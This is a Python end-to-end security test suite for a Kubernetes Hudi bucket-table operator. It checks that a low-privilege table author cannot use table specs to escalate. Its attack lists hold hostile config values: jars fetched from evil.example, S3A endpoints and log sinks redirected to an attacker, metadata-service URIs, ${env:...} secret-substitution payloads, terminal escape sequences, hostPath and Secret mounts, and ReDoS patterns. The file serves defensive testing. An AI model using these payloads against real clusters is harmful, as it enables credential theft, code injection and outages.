"""What a table's author can make the operator do, on the real control plane after a real helm install:
exactly what the author could do with their own RBAC, or what the admins allowed in the Helm values.

The author is a ServiceAccount that may write HudiBucketTables in its namespace and nothing else: no pods,
no Secrets, no scale of a Deployment, no FlinkDeployment. Beside it, in the same namespace, live what it
must not reach through the operator: a Deployment and a FlinkDeployment of another team (whose owners
never consented to a table pausing them), and a Secret the admins did not list, holding a planted value.
Each attack is refused at admission by the CRD, or stalls its table with one event and no
SparkApplication, as the API server shows; the victims stay as they were, and no planted value is
anywhere in any table's status or events. ``ATTACKS`` collects each attack and its outcome as read from
the API server, grouped; the last test prints the table.

No Spark job runs here: where a table must get as far as pausing its writers, the test plays the Spark
Operator's part, marking the plan job Completed with a report the contract's own classes write. The tests
run in order: each leaves the tables as the next one expects them.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

from control_plane import ControlPlane
from harness import (
    API_GROUP,
    API_VERSION,
    OPERATOR_BIN,
    PLURAL,
    SPARK_APPLICATIONS,
    Cluster,
    OperatorProcess,
    free_port,
    open_window,
    operator_in_pod,
    until,
)
from hudi_bucket.contract.reports import ConfigMapReport, JobReport, Outcome, PlanResult, TableBuckets
from hudi_bucket.contract.requests import JobKind
from hudi_bucket.core.planning import ChangeReason, PartitionChange, Plan
from hudi_bucket.core.rules import BucketRules
from hudi_bucket_operator.resource.api import DECIDED_BY, REASON
from lib import shown
from lib.helm_chart import FLINK_WRITER_KIND
from spark_submit import container

RELEASE = "hudi-bucket-operator-policy"  # holds the chart's name: the release's full name
RELEASE_NS = "hudi-bucket-operator-policy"
LAKE = "policy-lake"
AUTHOR = "table-author"
RESYNC = 2
# The planted values: in the Secret the admins did not list, and in settings' values a table sets.
PLANTED_SECRET = "pl4nted-db-admin-s3cret"
PLANTED_VALUE = "pl4nted-v4lue"
# Another team's workloads in the table's namespace, which no table may pause.
VICTIM_DEPLOYMENT, VICTIM_FLINK = "payments-api", "payments-cdc"
VICTIM_JAR = "local:///opt/flink/usrlib/payments.jar"
WRITER_OF = "hudi.bucketops.io/writer-of"
FLINK = ("flink.apache.org", "v1beta1", "flinkdeployments")


def chart_values(**jobs: Any) -> dict[str, Any]:
    return {
        "watch": {"namespaces": [LAKE]},
        "resyncSeconds": RESYNC,
        "metrics": {"port": free_port()},
        "health": {"port": free_port()},
        "writers": {
            "enabled": True,
            "kinds": [FLINK_WRITER_KIND],
            "maxQuiesceTimeout": "1h",
            "applyDeadline": "1m",
        },
        "jobs": {
            "image": {"tag": "e2e"},
            "allowedSecrets": {LAKE: ["lake-s3"]},
            "allowedTableUris": {"*": [], LAKE: ["s3a://lake/warehouse/"]},
            **jobs,
        },
    }


def spec(name: str, spark: dict[str, Any] | None = None, **fields: Any) -> dict[str, Any]:
    """A table nothing will read (no job runs here), with this spec.spark and other fields."""
    return {
        "table": {"uri": f"s3a://lake/warehouse/{name}"},
        "buckets": {"default": 2, "rules": [{"pattern": "11-11", "buckets": 6}]},
        "spark": spark or {},
        **fields,
    }


@dataclass
class World:
    cluster: Cluster
    operator: OperatorProcess
    author: client.CustomObjectsApi
    work: Path
    attacks: dict[str, list[tuple[str, str]]] = field(default_factory=dict)  # group -> (attack, outcome)

    def create_as_author(self, name: str, body_spec: dict[str, Any]) -> dict[str, Any]:
        body = {
            "apiVersion": f"{API_GROUP}/{API_VERSION}",
            "kind": "HudiBucketTable",
            "metadata": {"name": name, "namespace": LAKE},
            "spec": body_spec,
        }
        return self.author.create_namespaced_custom_object(API_GROUP, API_VERSION, LAKE, PLURAL, body)

    def patch_as_author(self, name: str, patch: dict[str, Any]) -> None:
        self.author.patch_namespaced_custom_object(API_GROUP, API_VERSION, LAKE, PLURAL, name, patch)

    def restart_operator(self) -> None:
        self.operator.stop()
        self.operator = operator_in_pod(self.cluster, RELEASE_NS, RELEASE, self.work)

    def tried(self, group: str, attack: str, outcome: str) -> None:
        self.attacks.setdefault(group, []).append((attack, outcome))


def author_client(control_plane: ControlPlane) -> client.ApiClient:
    """A ServiceAccount that may write HudiBucketTables in LAKE, and nothing else."""
    api = control_plane.api_client()
    client.CoreV1Api(api).create_namespaced_service_account(
        LAKE, client.V1ServiceAccount(metadata=client.V1ObjectMeta(name=AUTHOR))
    )
    rules = [
        client.V1PolicyRule(
            api_groups=[API_GROUP], resources=[PLURAL], verbs=["get", "list", "watch", "create", "patch"]
        )
    ]
    rbac = client.RbacAuthorizationV1Api(api)
    rbac.create_namespaced_role(LAKE, client.V1Role(metadata=client.V1ObjectMeta(name=AUTHOR), rules=rules))
    subject = client.RbacV1Subject(kind="ServiceAccount", name=AUTHOR, namespace=LAKE)
    binding = client.V1RoleBinding(
        metadata=client.V1ObjectMeta(name=AUTHOR),
        role_ref=client.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="Role", name=AUTHOR),
        subjects=[subject],
    )
    rbac.create_namespaced_role_binding(LAKE, binding)
    control_plane.wait_until_allowed(f"system:serviceaccount:{LAKE}:{AUTHOR}", "create", PLURAL, LAKE)
    return control_plane.api_client_for_token(control_plane.token_for(LAKE, AUTHOR))


FLINK_CRD = {
    "apiVersion": "apiextensions.k8s.io/v1",
    "kind": "CustomResourceDefinition",
    "metadata": {"name": "flinkdeployments.flink.apache.org"},
    "spec": {
        "group": "flink.apache.org",
        "scope": "Namespaced",
        "names": {"kind": "FlinkDeployment", "plural": "flinkdeployments", "singular": "flinkdeployment"},
        "versions": [
            {
                "name": "v1beta1",
                "served": True,
                "storage": True,
                "subresources": {"status": {}},
                "schema": {
                    "openAPIV3Schema": {
                        "type": "object",
                        "properties": {
                            "spec": {"type": "object", "x-kubernetes-preserve-unknown-fields": True},
                            "status": {"type": "object", "x-kubernetes-preserve-unknown-fields": True},
                        },
                    }
                },
            }
        ],
    },
}


def deployment(name: str, replicas: int, labels: dict[str, str] | None = None) -> dict[str, Any]:
    selector = {"app": name}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "namespace": LAKE, "labels": labels or {}},
        "spec": {
            "replicas": replicas,
            "selector": {"matchLabels": selector},
            "template": {
                "metadata": {"labels": selector},
                "spec": {"containers": [{"name": "app", "image": "example.invalid/app:1"}]},
            },
        },
    }


def flink_deployment(name: str, labels: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "apiVersion": "flink.apache.org/v1beta1",
        "kind": "FlinkDeployment",
        "metadata": {"name": name, "namespace": LAKE, "labels": labels or {}},
        "spec": {"image": "flink:1.20", "job": {"jarURI": VICTIM_JAR, "state": "running", "parallelism": 2}},
    }


@pytest.fixture(scope="module")
def world(control_plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    work = tmp_path_factory.mktemp("e2e-tenant")
    cluster = Cluster(control_plane)
    cluster.install_crds()
    crd = work / "flink-crd.json"
    crd.write_text(json.dumps(FLINK_CRD))
    cluster.kubectl("apply", "--server-side", "-f", str(crd))
    established = (
        "wait",
        "--for=condition=Established",
        "crd/flinkdeployments.flink.apache.org",
        "--timeout=5s",
    )
    until(lambda: cluster.kubectl(*established, check=False).returncode == 0, 60, "the FlinkDeployment CRD")
    cluster.kubectl("create", "namespace", LAKE)
    # What the author must not reach: another team's writers, and a Secret nobody listed for tables.
    cluster.apps.create_namespaced_deployment(LAKE, deployment(VICTIM_DEPLOYMENT, 3))
    cluster.custom.create_namespaced_custom_object(*FLINK[:2], LAKE, FLINK[2], flink_deployment(VICTIM_FLINK))
    secret = client.V1Secret(
        metadata=client.V1ObjectMeta(name="db-admin"), string_data={"PASSWORD": PLANTED_SECRET}
    )
    cluster.core.create_namespaced_secret(LAKE, secret)
    lake_s3 = {"AWS_ACCESS_KEY_ID": "lake", "AWS_SECRET_ACCESS_KEY": "lake-key"}
    cluster.core.create_namespaced_secret(
        LAKE, client.V1Secret(metadata=client.V1ObjectMeta(name="lake-s3"), string_data=lake_s3)
    )
    cluster.install_chart(RELEASE, RELEASE_NS, chart_values())
    author = author_client(control_plane)
    world = World(
        cluster, operator_in_pod(cluster, RELEASE_NS, RELEASE, work), client.CustomObjectsApi(author), work
    )
    try:
        yield world
    finally:
        world.operator.stop()
        cluster.helm("uninstall", RELEASE, "--namespace", RELEASE_NS)
        cluster.kubectl("delete", "namespace", LAKE, RELEASE_NS, "--wait=false", "--ignore-not-found")


def victims_as_they_were(world: World) -> None:
    """The other team's Deployment and FlinkDeployment, as the API server shows them: untouched."""
    scale = world.cluster.apps.read_namespaced_deployment_scale(VICTIM_DEPLOYMENT, LAKE)
    assert scale.spec.replicas == 3
    flink = world.cluster.custom.get_namespaced_custom_object(*FLINK[:2], LAKE, FLINK[2], VICTIM_FLINK)
    assert flink["spec"]["job"] == {"jarURI": VICTIM_JAR, "state": "running", "parallelism": 2}
    assert flink["metadata"]["generation"] == 1  # never patched


def test_the_author_may_write_tables_but_not_pods_secrets_nor_others_workloads(world: World) -> None:
    api = world.author.api_client
    pod = client.V1Pod(
        metadata=client.V1ObjectMeta(name="escape"),
        spec=client.V1PodSpec(containers=[client.V1Container(name="c", image="busybox")]),
    )
    refused = {
        "create a pod": lambda: client.CoreV1Api(api).create_namespaced_pod(LAKE, pod),
        "read a Secret": lambda: client.CoreV1Api(api).read_namespaced_secret("db-admin", LAKE),
        "list Secrets": lambda: client.CoreV1Api(api).list_namespaced_secret(LAKE),
        "scale a Deployment": lambda: client.AppsV1Api(api).patch_namespaced_deployment_scale(
            VICTIM_DEPLOYMENT, LAKE, {"spec": {"replicas": 0}}
        ),
        "patch a FlinkDeployment": lambda: client.CustomObjectsApi(api).patch_namespaced_custom_object(
            *FLINK[:2],
            LAKE,
            FLINK[2],
            VICTIM_FLINK,
            {"spec": {"job": {"jarURI": "https://evil.example/x.jar"}}},
        ),
        "create a SparkApplication": lambda: client.CustomObjectsApi(api).create_namespaced_custom_object(
            *SPARK_APPLICATIONS[:2], LAKE, SPARK_APPLICATIONS[2], {"metadata": {"name": "x"}}
        ),
    }
    for what, call in refused.items():
        with pytest.raises(client.ApiException) as caught:
            call()
        assert caught.value.status == 403, what
        world.tried("the author's own RBAC", what, "403 Forbidden")


FAKE_PLAN = "^x\x1b[2J\x1b[HPlan sha256:0000 rewrites 1 partition$"  # a regex in both engines
KELVIN = "\u212a"  # KELVIN SIGN: 'k' to a case-insensitive Unicode regex, and to Java's toLowerCase
POLYNOMIAL = ".*" * 16 + "X"  # 6 s in Python's re, 24 s in java.util.regex on a 14-character path


# What no admin may allow, and what no table may say at all: the API server refuses each table, saying why.
AT_ADMISSION: list[tuple[str, str, dict[str, Any], str]] = [
    # (group, attack, spec, what the API server says)
    ("settings the operator sets", "sparkConf spark.kubernetes.container.image",
     spec("a", {"sparkConf": {"spark.kubernetes.container.image": "evil/miner:1"}}),
     "spec.spark.sparkConf must not set what the operator sets"),
    ("settings the operator sets", "sparkConf spark.kubernetes.namespace",
     spec("a", {"sparkConf": {"spark.kubernetes.namespace": "kube-system"}}),
     "spec.spark.sparkConf must not set what the operator sets"),
    ("settings the operator sets", "sparkConf spark.kubernetes.authenticate.driver.serviceAccountName",
     spec("a", {"sparkConf": {"spark.kubernetes.authenticate.driver.serviceAccountName": "admin"}}),
     "spec.spark.sparkConf must not set"),
    ("settings the operator sets", "sparkConf spark.kubernetes.driver.podTemplateFile",
     spec("a", {"sparkConf": {"spark.kubernetes.driver.podTemplateFile": "/x"}}),
     "spec.spark.sparkConf must not set what the operator sets"),
    ("settings the operator sets", "sparkConf spark.kubernetes.driver.pod.name",
     spec("a", {"sparkConf": {"spark.kubernetes.driver.pod.name": "x"}}),
     "spec.spark.sparkConf must not set what the operator sets"),
    ("settings the operator sets", "sparkConf spark.master",
     spec("a", {"sparkConf": {"spark.master": "local[*]"}}), "spec.spark.sparkConf must not set what the operator sets"),
    ("settings the operator sets", "a key naming another in --conf key=value (spark.master=k8s://...)",
     spec("a", {"sparkConf": {"spark.master=k8s://https://evil.example": "x"}}),
     "spec.spark.sparkConf's keys must be settings' names"),
    ("settings the operator sets", "hadoopConf key fs.s3a.endpoint=http://evil.example",
     spec("a", {"hadoopConf": {"fs.s3a.endpoint=http://evil.example": "x"}}), "hadoopConf's keys must be"),
    ("images", "an image with '..' in its name", spec("a", {"image": "registry.example/hudi-job/../evil:1"}),
     "spec.spark.image must be an image reference"),
    ("images", "an image in upper case", spec("a", {"image": "Registry.example/hudi-job:1"}),
     "spec.spark.image must be an image reference"),
    ("images", "an image with a Cyrillic look-alike", spec("a", {"image": "registr\u0443.example/j:1"}),
     "spec.spark.image must be an image reference"),
    ("values", "Hadoop's ${env.NAME} in an integer setting (fs.s3a.connection.maximum)",
     spec("a", {"hadoopConf": {"fs.s3a.connection.maximum": "${env.PASSWORD}"}}),
     "spec.spark.hadoopConf's values must not hold '${'"),
    ("values", "Spark's ${env:NAME} in spark.sql.shuffle.partitions",
     spec("a", {"sparkConf": {"spark.sql.shuffle.partitions": "${env:PASSWORD}"}}),
     "spec.spark.sparkConf's values must not hold '${'"),
    ("values", "${...} in a spark.hadoop.* key's value",
     spec("a", {"sparkConf": {"spark.hadoop.fs.s3a.endpoint.region": "${env.AWS_SECRET_ACCESS_KEY}"}}),
     "spec.spark.sparkConf's values must not hold '${'"),
    ("writers", "a writer kind in lower case", spec("a", writers={"workloads": [{"kind": "deployment", "name": "x"}]}),
     "spec.writers.workloads[0].kind"),
    ("bounds", "100,001 buckets", {**spec("a"), "buckets": {"default": 100001, "rules": [{"pattern": "x", "buckets": 2}]}},
     "spec.buckets.default"),
    ("bounds", "101 rules", {**spec("a"), "buckets": {"default": 2, "rules": [{"pattern": f"p{i}", "buckets": 2} for i in range(101)]}},
     "spec.buckets.rules"),
    ("bounds", "a pattern of 513 characters", {**spec("a"), "buckets": {"default": 2, "rules": [{"pattern": "a" * 513, "buckets": 2}]}},
     "spec.buckets.rules[0].pattern"),
    ("bounds", "1,001 executors", spec("a", {"executor": {"instances": 1001}}), "spec.spark.executor.instances"),
    # Text that reaches a job or a view: Spark SQL would substitute ${...}; a terminal obeys ESC.
    ("text a job or a view reads", "${env:AWS_SECRET_ACCESS_KEY} in spec.table.uri",
     {**spec("a"), "table": {"uri": "s3a://lake/warehouse/${env:AWS_SECRET_ACCESS_KEY}"}},
     "spec.table.uri must not hold '${'"),
    ("text a job or a view reads", "${env:HOME} in a local spec.table.uri",
     {**spec("a"), "table": {"uri": "/data/${env:HOME}"}}, "spec.table.uri must not hold '${'"),
    ("text a job or a view reads", "${sparkconf:spark.hadoop.fs.s3a.secret.key} in spec.table.uri",
     {**spec("a"), "table": {"uri": "s3a://lake/warehouse/${sparkconf:spark.hadoop.fs.s3a.secret.key}"}},
     "spec.table.uri must not hold '${'"),
    ("text a job or a view reads", "[${env:AWS_SECRET_ACCESS_KEY}] as a rule's pattern (into CALL ... overwrite)",
     {**spec("a"), "buckets": {"default": 2, "rules": [{"pattern": "[${env:AWS_SECRET_ACCESS_KEY}]", "buckets": 2}]}},
     "a rule's pattern must not hold '${'"),
    ("text a job or a view reads", "ESC[2J ESC[H and a fake plan in a rule's pattern (a valid regex)",
     {**spec("a"), "buckets": {"default": 2, "rules": [{"pattern": FAKE_PLAN, "buckets": 2}]}},
     "a rule's pattern must not hold '${'"),
    ("text a job or a view reads", "${...} in a hash field", {**spec("a"), "table": {
     "uri": "s3a://lake/warehouse/a", "hashFields": ["id${env:AWS_SECRET_ACCESS_KEY}"]}},
     "a hash field name must not hold '${'"),
    ("text a job or a view reads", "${...} in spec.buckets.sizing.partitions",
     {**spec("a"), "buckets": {"default": 2, "sizing": {"targetFileSize": "512Mi", "partitions": "${env:HOME}"}}},
     "spec.buckets.sizing.partitions must not hold '${'"),
    ("bounds", "a 1,000-day quiesce timeout", spec("a", writers={"quiesceTimeout": "1000d"}), "spec.writers.quiesceTimeout"),
]  # fmt: skip


def test_what_no_table_may_say_is_refused_at_admission(world: World) -> None:
    for index, (group, attack, body_spec, why) in enumerate(AT_ADMISSION):
        with pytest.raises(client.ApiException) as refused:
            world.create_as_author(f"admission-{index}", body_spec)
        said = json.loads(refused.value.body)["message"]
        assert refused.value.status == 422, attack
        assert why in said, (attack, said)
        world.tried(group, attack, f"refused at admission (422): ...{why}...")
    tables = world.cluster.custom.list_namespaced_custom_object(API_GROUP, API_VERSION, LAKE, PLURAL)
    assert tables["items"] == []


NESTED = "(" * 510 + "a" + ")" * 510
LONG_BAD_RULES = [{"pattern": "(" * 300 + f"x{i}", "buckets": 2} for i in range(100)]
# (group, table, spec, the Stalled reason, what its message says): each admitted, each refused by the
# operator before a job exists.
STALLED: list[tuple[str, str, dict[str, Any], str, str]] = [
    ("mounts, code and pods", "host-path-mount",
     spec("host-path-mount", {"sparkConf": {"spark.kubernetes.driver.volumes.hostPath.node.mount.path": "/host"}}),
     "SettingNotAllowed", "sparkConf['spark.kubernetes.driver.volumes.hostPath.node.mount.path'] mounts volumes"),
    ("mounts, code and pods", "host-path-options",
     spec("host-path-options", {"sparkConf": {"spark.kubernetes.driver.volumes.hostPath.node.options.path": "/"}}),
     "SettingNotAllowed", "sparkConf['spark.kubernetes.driver.volumes.hostPath.node.options.path'] mounts volumes"),
    ("mounts, code and pods", "jars", spec("jars", {"sparkConf": {"spark.jars": "https://evil.example/miner.jar"}}),
     "SettingNotAllowed", "sparkConf['spark.jars'] loads code into the job"),
    ("mounts, code and pods", "packages", spec("packages", {"sparkConf": {"spark.jars.packages": "com.evil:miner:1.0"}}),
     "SettingNotAllowed", "sparkConf['spark.jars.packages'] loads code into the job"),
    ("mounts, code and pods", "java-agent",
     spec("java-agent", {"sparkConf": {"spark.driver.extraJavaOptions": "-javaagent:/tmp/a.jar"}}),
     "SettingNotAllowed", "sparkConf['spark.driver.extraJavaOptions'] passes options to the job's JVMs"),
    ("mounts, code and pods", "codec-class",
     spec("codec-class", {"sparkConf": {"spark.io.compression.codec": "com.evil.Codec"}}),
     "SettingNotAllowed", "sparkConf['spark.io.compression.codec'] must be one of lz4, lzf, snappy, zstd"),
    ("mounts, code and pods", "driver-env",
     spec("driver-env", {"sparkConf": {"spark.kubernetes.driverEnv.AWS_ROLE_ARN": "arn:aws:iam::1:role/admin"}}),
     "SettingNotAllowed", "sparkConf['spark.kubernetes.driverEnv.AWS_ROLE_ARN'] sets environment variables"),
    ("mounts, code and pods", "node-selector",
     spec("node-selector", {"sparkConf": {"spark.kubernetes.node.selector.kubernetes.io/hostname": "master-0"}}),
     "SettingNotAllowed", "sparkConf['spark.kubernetes.node.selector.kubernetes.io/hostname'] chooses the nodes"),
    ("Secrets", "secret-mount",
     spec("secret-mount", {"sparkConf": {"spark.kubernetes.driver.secrets.db-admin": "/var/run/t"}}),
     "SettingNotAllowed", "sparkConf['spark.kubernetes.driver.secrets.db-admin'] mounts a Secret"),
    ("Secrets", "secret-key-ref",
     spec("secret-key-ref", {"sparkConf": {"spark.kubernetes.executor.secretKeyRef.PASSWORD": "db-admin:PASSWORD"}}),
     "SettingNotAllowed", "sparkConf['spark.kubernetes.executor.secretKeyRef.PASSWORD'] mounts a Secret"),
    ("Secrets", "unlisted-secret", spec("unlisted-secret", {"envFromSecrets": [{"name": "db-admin"}]}),
     "SecretNotAllowed", "spec.spark.envFromSecrets names Secret(s) ['db-admin'] that tables in namespace"),
    ("Secrets", "inline-secret", spec("inline-secret", {"hadoopConf": {"fs.s3a.secret.key": PLANTED_VALUE}}),
     "SettingNotAllowed", "hadoopConf['fs.s3a.secret.key'] holds a credential"),
    ("endpoints and identities", "endpoint", spec("endpoint", {"hadoopConf": {"fs.s3a.endpoint": "http://evil.example"}}),
     "SettingNotAllowed", "hadoopConf['fs.s3a.endpoint'] points S3A at another server"),
    ("endpoints and identities", "endpoint-in-spark-conf",
     spec("endpoint-in-spark-conf", {"sparkConf": {"spark.hadoop.fs.s3a.endpoint": "http://evil.example"}}),
     "SettingNotAllowed", "sparkConf['spark.hadoop.fs.s3a.endpoint'] points S3A at another server"),
    ("endpoints and identities", "credentials-provider",
     spec("credentials-provider", {"hadoopConf": {"fs.s3a.aws.credentials.provider": "com.evil.Provider"}}),
     "SettingNotAllowed", "hadoopConf['fs.s3a.aws.credentials.provider'] chooses whose credentials"),
    ("endpoints and identities", "cluster-admin", spec("cluster-admin", {"serviceAccount": "cluster-admin"}),
     "ServiceAccountNotAllowed", "spec.spark.serviceAccount 'cluster-admin' is not allowed"),
    ("endpoints and identities", "lake-spark", spec("lake-spark", {"serviceAccount": "lake-spark"}),
     "ServiceAccountNotAllowed", "spec.spark.serviceAccount 'lake-spark' is not allowed"),
    ("endpoints and identities", "image", spec("image", {"image": "docker.io/someone/miner:latest"}),
     "ImageNotAllowed", "spec.spark.image 'docker.io/someone/miner:latest' is not allowed"),
    ("values", "not-an-integer", spec("not-an-integer", {"sparkConf": {"spark.sql.shuffle.partitions": PLANTED_VALUE}}),
     "SettingNotAllowed", "sparkConf['spark.sql.shuffle.partitions'] must be an integer in 1..1000000"),
    ("values", "not-a-size", spec("not-a-size", {"hadoopConf": {"fs.s3a.multipart.size": PLANTED_VALUE}}),
     "SettingNotAllowed", "hadoopConf['fs.s3a.multipart.size'] must be a size in Hadoop's format"),
    ("bounds", "huge-overhead", spec("huge-overhead", {"sparkConf": {"spark.executor.memoryOverhead": "99999g"}}),
     "ResourcesNotAllowed", "spec.spark.executor.memory 2g is over 32g with what Spark adds to its pod"),
    ("table URIs", "metadata-service", {**spec("x"), "table": {"uri": "http://169.254.169.254/latest/meta-data/iam"}},
     "TableUriNotAllowed", "is not where tables of this namespace may be"),
    ("table URIs", "https", {**spec("x"), "table": {"uri": "https://evil.example/table"}},
     "TableUriNotAllowed", "is not where tables of this namespace may be"),
    ("table URIs", "other-team", {**spec("x"), "table": {"uri": "s3a://lake/payments/ledger"}},
     "TableUriNotAllowed", "is not where tables of this namespace may be"),
    ("table URIs", "climbing-out", {**spec("x"), "table": {"uri": "s3a://lake/warehouse/../payments/ledger"}},
     "TableUriNotAllowed", "holds a '.' or '..' segment"),
    ("table URIs", "a-prefix-of-a-name", {**spec("x"), "table": {"uri": "s3a://lake/warehouse-b/t"}},
     "TableUriNotAllowed", "is not where tables of this namespace may be"),
    ("table URIs", "credentials-in-uri", {**spec("x"), "table": {"uri": f"s3a://key:{PLANTED_VALUE}@lake/warehouse/t"}},
     "TableUriNotAllowed", "holds credentials before its host"),
    ("table URIs", "climbing-out-before-a-scheme", {**spec("x"), "table": {"uri": "/data/team-a/../team-b/x://y"}},
     "TableUriNotAllowed", "holds a '.' or '..' segment"),
    ("table URIs", "hdfs", {**spec("x"), "table": {"uri": "hdfs://namenode/warehouse/t"}},
     "TableUriNotAllowed", "is not where tables of this namespace may be"),
    ("bounds", "huge-driver", spec("huge-driver", {"driver": {"memory": "99999999g"}}),
     "ResourcesNotAllowed", "spec.spark.driver.memory 99999999g is over 16g"),
    ("bounds", "kelvin-sizes", spec("kelvin-sizes", {"sparkConf": {
         "spark.executor.memoryOverhead": f"40000000{KELVIN}", "spark.driver.memoryOverhead": f"40000000{KELVIN}",
         "spark.memory.offHeap.size": f"40000000{KELVIN}", "spark.executor.pyspark.memory": f"40000000{KELVIN}"}}),
     "SettingNotAllowed", "sparkConf['spark.driver.memoryOverhead'] must be a size in Spark's format"),
    ("bounds", "a-128g-pod", spec("a-128g-pod", {"executor": {"memory": "32g"}, "sparkConf": {
         "spark.executor.memoryOverhead": "32g", "spark.memory.offHeap.enabled": "true",
         "spark.memory.offHeap.size": "32g", "spark.executor.pyspark.memory": "32g"}}),
     "ResourcesNotAllowed", "spec.spark.executor.memory 32g is over 32g with what Spark adds to its pod: "
     "32.0 GiB heap + 32.0 GiB overhead + 32.0 GiB off-heap + 32.0 GiB Python = 128.0 GiB"),
    ("churn", "verify-every-minute", spec("verify-every-minute", verify={"schedule": "1m"}),
     "ScheduleNotAllowed", "spec.verify.schedule '1m' runs a job every 60s"),
    ("churn", "verify-cron-every-minute", spec("verify-cron-every-minute", verify={"schedule": "* * * * *"}),
     "ScheduleNotAllowed", "spec.verify.schedule '* * * * *' runs a job every 60s"),
    ("churn", "replan-every-minute",
     {**spec("x"), "buckets": {"default": 2, "sizing": {"targetFileSize": "512Mi", "replanEvery": "1m"}}},
     "ScheduleNotAllowed", "spec.buckets.sizing.replanEvery runs a job every 60s"),
    ("churn", "kept-a-year", spec("kept-a-year", {"ttlSeconds": 31536000}),
     "ResourcesNotAllowed", "spec.spark.ttlSeconds 31536000 is over 604800"),
    # What loads code, reaches an address, or chooses credentials, keys, redaction or sinks: refused, and
    # still refused under the admins' prefixes spark. and fs.s3a. (the last test).
    ("code, credentials and sinks", "class-from-an-address", spec("class-from-an-address", {"sparkConf": {
         "spark.repl.class.uri": "http://evil.example/classes", "spark.executor.userClassPathFirst": "true"}}),
     "SettingNotAllowed", "sparkConf['spark.executor.userClassPathFirst'] loads code into the job"),
    ("code, credentials and sinks", "python-modules", spec("python-modules", {"sparkConf": {
         "spark.python.daemon.module": "evil", "spark.python.worker.module": "evil"}}),
     "SettingNotAllowed", "sparkConf['spark.python.daemon.module'] loads code into the job"),
    ("code, credentials and sinks", "plugins-and-serializers", spec("plugins-and-serializers", {"sparkConf": {
         "spark.plugins.defaultList": "com.evil.P", "spark.sql.cache.serializer": "com.evil.S"}}),
     "SettingNotAllowed", "sparkConf['spark.plugins.defaultList'] loads code into the job"),
    ("code, credentials and sinks", "redaction-and-sinks", spec("redaction-and-sinks", {"sparkConf": {
         "spark.redaction.regex": "nothing", "spark.eventLog.dir": "s3a://evil/", "spark.metrics.conf": "/x"}}),
     "SettingNotAllowed", "sparkConf['spark.eventLog.dir'] sends the job's events, logs or metrics to a sink"),
    ("code, credentials and sinks", "s3a-audit", spec("s3a-audit", {"hadoopConf": {
         "fs.s3a.audit.service.classname": "com.evil.A", "fs.s3a.audit.request.handlers": "com.evil.H"}}),
     "SettingNotAllowed", "hadoopConf['fs.s3a.audit.request.handlers'] loads code into the job"),
    ("code, credentials and sinks", "s3a-credentials", spec("s3a-credentials", {"hadoopConf": {
         "fs.s3a.delegation.token.binding": "com.evil.B", "fs.s3a.security.credential.provider.path": "jceks://x"}}),
     "SettingNotAllowed", "hadoopConf['fs.s3a.delegation.token.binding'] chooses whose credentials the job uses"),
    ("code, credentials and sinks", "s3a-encryption-key",
     spec("s3a-encryption-key", {"hadoopConf": {"fs.s3a.encryption.key": PLANTED_VALUE}}),
     "SettingNotAllowed", "hadoopConf['fs.s3a.encryption.key'] holds a credential"),
    ("bounds", "many-executors", spec("many-executors", {"executor": {"instances": 1000, "cores": 256}}),
     "ResourcesNotAllowed", "spec.spark.executor.instances 1000 is over 50"),
    ("bounds", "long-quiesce",
     spec("long-quiesce", writers={"quiesceTimeout": "999d", "workloads": [{"kind": "Deployment", "name": "x"}]}),
     "WriterNotAllowed", "quiesceTimeout is 86313600 s, over the 3600 s the admins allow"),
    ("writers", "undeclared-kind",
     spec("undeclared-kind", writers={"workloads": [{"kind": "CronJob", "name": "nightly"}]}),
     "WriterNotAllowed", "kind(s) ['CronJob'] that the operator does not know how to pause"),
    ("writers", "secret-as-writer",
     spec("secret-as-writer", writers={"workloads": [{"kind": "Secret", "name": "db-admin"}]}),
     "WriterNotAllowed", "kind(s) ['Secret'] that the operator does not know how to pause"),
    ("crash specs", "deep-nesting",
     {**spec("x"), "buckets": {"default": 2, "rules": [{"pattern": NESTED[:512], "buckets": 2}]}},
     "InvalidSpec", "spec.buckets.rules[0]"),
    ("crash specs", "nested-alternation",
     {**spec("x"), "buckets": {"default": 2, "rules": [{"pattern": "((.|.)|(.|.))*x", "buckets": 2}]}},
     "InvalidSpec", "spec.buckets.rules[0]"),
    ("crash specs", "polynomial-backtracking",
     {**spec("x"), "buckets": {"default": 2, "rules": [{"pattern": POLYNOMIAL, "buckets": 2}]}},
     "InvalidSpec", "is unsafe to evaluate"),
    ("crash specs", "nested-quantifiers",
     {**spec("x"), "buckets": {"default": 2, "rules": [{"pattern": "(a+)+b", "buckets": 2}]}},
     "InvalidSpec", "spec.buckets.rules[0]"),
    ("crash specs", "a-40000-character-message",
     {**spec("x"), "buckets": {"default": 2, "rules": LONG_BAD_RULES}},
     "InvalidSpec", "spec.buckets.rules[0]"),
]  # fmt: skip
# What the admins allow in the last test, and the tables it lets through.
WIDER = {
    "allowedHadoopConf": ["fs.s3a.endpoint", "fs.s3a."],
    "allowedServiceAccounts": ["lake-spark"],
    "allowedSparkConf": ["spark."],
}
LET_THROUGH = {"endpoint", "endpoint-in-spark-conf", "lake-spark"}


def stalled_once(world: World, name: str) -> tuple[dict[str, Any], list[str]]:
    """The table's Stalled condition and its events, once both are there."""

    def found() -> tuple[dict[str, Any], list[str]] | None:
        status = world.cluster.status(LAKE, name)
        held = next((c for c in status.get("conditions") or [] if c["type"] == "Stalled"), None)
        events = world.cluster.events(LAKE, name)
        return (held, events) if held and held["status"] == "True" and events else None

    return until(found, 60, f"{name} to be Stalled, with its event")


def test_each_escalation_stalls_its_table_with_one_event_and_no_job(world: World) -> None:
    for _, name, body_spec, _, _ in STALLED:
        world.create_as_author(name, body_spec)
    for group, name, _, reason, says in STALLED:
        held, _ = stalled_once(world, name)
        assert (held["reason"], says in held["message"]) == (reason, True), held
        assert len(held["message"]) <= 4096  # bounded, whatever the spec
        world.tried(group, name, f"Stalled, {reason}: ...{says}...")
    time.sleep(3 * RESYNC)  # three more passes over every table: still one event each
    for _, name, _, reason, _ in STALLED:
        events = world.cluster.events(LAKE, name)
        assert len(events) == 1, (name, events)
        [event] = events
        assert event.startswith(f"{reason}: "), event
        if reason == "SettingNotAllowed":
            assert "evil.example" not in event  # the keys are named, not their values
        assert PLANTED_VALUE not in event
